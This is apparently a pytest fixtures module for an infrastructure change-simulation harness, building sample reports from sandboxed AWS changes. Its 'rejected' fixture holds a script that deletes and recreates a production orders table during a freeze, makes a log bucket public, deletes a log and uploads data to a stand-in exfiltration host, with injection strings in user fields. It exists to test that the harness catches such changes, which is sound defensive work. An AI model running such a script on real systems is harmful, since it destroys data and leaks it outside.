"""Report documents of several shapes, built once per session from real simulations.

- ``promoted``: the queue-with-DLQ change, declared exactly;
- ``rejected``: a script that drops and refills a table during a freeze, makes a bucket
  public, tags a queue and tries to upload elsewhere, with hostile strings in every
  user-controlled place (bundle, intent, values, config, output);
- ``inconclusive``: an operation the emulator does not implement;
- ``big``: a 200-resource change (the stale-state destroy at scale) from the real
  intent matcher, policies and tiers over a built change set (a 200-resource sandbox
  run would cost a minute on this machine).
"""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

import pytest

from harness.collectors.capture import capture
from harness.demo.estate import PROD_ACCOUNT, build_estate
from harness.estate.snapshot import Snapshot
from harness.report.model import build
from harness.sandbox.moto import MotoBackend
from harness.seeders.dynamodb import create_table_params
from harness.simulate import simulate
from tests.report import big
from tests.report.sims import HOSTILE, SERVICES, aws_calls, policy, toml_string, write_bundle, write_config

AT = dt.datetime(2026, 11, 25, 12, 0, tzinfo=dt.UTC)
QUEUE_URL = f"https://sqs.us-east-1.amazonaws.com/{PROD_ACCOUNT}"
ORDERS_IN_PRODUCTION = 1206  # the sandbox holds a sample of 20


@pytest.fixture(scope="session")
def production() -> Snapshot:
    with MotoBackend(account=PROD_ACCOUNT) as prod:
        build_estate(prod.target(), services=tuple(SERVICES), items=20, objects=5)
        snap = capture(prod.target(), regions=["us-east-1"], services=SERVICES)
    snap.resources["dynamodb:table/orders"].data["count"] = ORDERS_IN_PRODUCTION
    return snap


@pytest.fixture(scope="session")
def promoted(production, tmp_path_factory) -> dict[str, Any]:
    bundle = write_bundle(
        tmp_path_factory.mktemp("promoted") / "bundle", name="add-orders-dlq",
        summary="Create orders-dlq and set it as the DLQ of orders.",
        effects=[{"action": "create", "resource": "sqs:queue/orders-dlq"},
                 {"action": "update", "resource": "sqs:queue/orders", "fields": ["Attributes.RedrivePolicy"]}],
        change=aws_calls(
            {"service": "sqs", "operation": "CreateQueue", "params": {"QueueName": "orders-dlq"}},
            {"service": "sqs", "operation": "SetQueueAttributes", "params": {
                "QueueUrl": f"{QUEUE_URL}/orders", "Attributes": {"RedrivePolicy": json.dumps(
                    {"deadLetterTargetArn": f"arn:aws:sqs:us-east-1:{PROD_ACCOUNT}:orders-dlq",
                     "maxReceiveCount": "5"})}}}))
    return build(simulate(bundle, production, now=AT))


WIPE = '''"""Fix one order: rebuild the table, refill it, make the logs readable, ship a copy."""
import json
import urllib.request

import boto3

HOSTILE = {hostile!r}
ddb = boto3.client("dynamodb")
ddb.update_table(TableName="orders", DeletionProtectionEnabled=False)
ddb.delete_table(TableName="orders")
ddb.create_table(**json.loads({table!r}))
ddb.put_item(TableName="orders", Item={{"order_id": {{"S": "o-0000007"}}, "customer_id": {{"S": HOSTILE}}}})
boto3.client("s3").put_bucket_policy(Bucket="app-logs", Policy={policy!r})
boto3.client("sqs").tag_queue(QueueUrl={queue!r}, Tags={{"note|`x`": HOSTILE}})
boto3.client("s3").delete_object(Bucket="app-logs", Key="2026/11/0001.log")
print("deleting orders\\n```\\n</details>\\n# " + HOSTILE + "\\n~~~\\nrefilled 1 order")
try:
    urllib.request.urlopen("https://exfil.invalid/upload", data=b"orders", timeout=10)
except Exception as exc:
    print("upload refused:", type(exc).__name__)
'''


@pytest.fixture(scope="session")
def rejected(production, tmp_path_factory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("rejected")
    orders = production.resources["dynamodb:table/orders"]
    script = WIPE.format(hostile=HOSTILE, table=json.dumps(create_table_params(orders, orders.config)),
                         policy=policy(HOSTILE, "*", "app-logs"), queue=f"{QUEUE_URL}/orders")
    bundle = write_bundle(
        folder / "bundle", name="fix-order-o-0000007", author="agent:x@octocat", description=HOSTILE,
        summary=f"Set the status of order o-0000007 to shipped. {HOSTILE}",
        effects=[{"action": "update", "resource": "dynamodb:table/orders", "data": {"updated": 1},
                  "reason": HOSTILE}],
        access=[{"principal": HOSTILE, "actions": ["s3:GetObject"], "resource": "arn:aws:s3:::app-logs/*"}],
        change={"kind": "script", "script": "fix.py", "timeout": 120}, files={"fix.py": script})
    config = write_config(folder / "shadow.toml", f'''
protected = ["dynamodb:table/orders"]
[[freeze]]
start = "2026-11-20T00:00:00Z"
end = "2026-11-30T00:00:00Z"
reason = {toml_string(HOSTILE)}
[[waivers]]
rule = "SHD-DATA-LOSS"
address = "s3:bucket/app-logs"
reason = {toml_string("old logs, versioned | " + HOSTILE)}
''')
    return build(simulate(bundle, production, config=config, now=AT))


@pytest.fixture(scope="session")
def inconclusive(production, tmp_path_factory) -> dict[str, Any]:
    bundle = write_bundle(
        tmp_path_factory.mktemp("inconclusive") / "bundle", name="orders-insights",
        summary="Turn on contributor insights for orders.",
        effects=[{"action": "update", "resource": "dynamodb:table/orders"}],
        change=aws_calls({"service": "dynamodb", "operation": "UpdateContributorInsights",
                          "params": {"TableName": "orders", "ContributorInsightsAction": "ENABLE"}}))
    return build(simulate(bundle, production, now=AT))


@pytest.fixture(scope="session")
def big_doc(tmp_path_factory) -> dict[str, Any]:
    return build(big.simulation(tmp_path_factory.mktemp("big"), now=AT))


@pytest.fixture(scope="session")
def docs(promoted, rejected, inconclusive, big_doc) -> dict[str, dict[str, Any]]:
    return {"promoted": promoted, "rejected": rejected, "inconclusive": inconclusive, "big": big_doc}
